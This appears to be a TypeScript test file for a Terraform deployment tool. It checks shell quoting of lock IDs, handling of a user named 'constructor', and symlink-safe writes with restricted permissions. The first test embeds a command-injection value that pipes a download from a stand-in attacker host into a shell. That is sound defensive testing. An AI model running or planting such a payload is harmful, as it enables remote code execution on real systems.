import { existsSync, lstatSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { planOfPending } from "../../cli/deploy/pending";
import { stateLocked } from "../../cli/deploy/state-lock";
import { writeWhole } from "../../live/whole-file";
import { testdir } from "../testdir";
import { planPeople } from "./plans";

test("the id of a lock is a word of the command that ends it, whatever is in it", () => {
  const lock = { id: "x'; curl evil.example | sh; '", who: "root@vm", since: "2026-11-22" };
  expect(stateLocked(lock, "terraform", "/srv/my stacks/users", 120).message).toContain(
    `terraform -chdir='/srv/my stacks/users' force-unlock 'x'\\''; curl evil.example | sh; '\\''', then`,
  );
});

test("what somebody held is told of a user whose name every object has", () => {
  const nobody = { planSha256: "", begunAt: "", devices: [], stayers: [], held: {}, schemaVersion: 1 } as const;
  const leavers = [{ name: "constructor", address: "aws_iam_user.constructor", forceDestroy: false }];
  const plan = planOfPending({ ...nobody, leavers }, planPeople({}));
  expect(plan.leavers.map(({ name }) => name)).toEqual(["constructor"]);
});

test("a file is written over no link, and read by nobody else, whatever lay where its draft is made", () => {
  const cwd = testdir({});
  const [file, other] = [join(cwd, "state.json"), join(cwd, "other")];
  writeFileSync(other, "theirs");
  symlinkSync(other, `${file}.new`);
  writeWhole(file, "secret");
  expect([readFileSync(other, "utf8"), readFileSync(file, "utf8")]).toEqual(["theirs", "secret"]);
  expect(lstatSync(file).isSymbolicLink()).toBe(false);
  writeFileSync(`${file}.new`, "", { mode: 0o644 });
  writeWhole(file, "secret");
  expect([(statSync(file).mode & 0o777).toString(8), existsSync(`${file}.new`)]).toEqual(["600", false]);
});
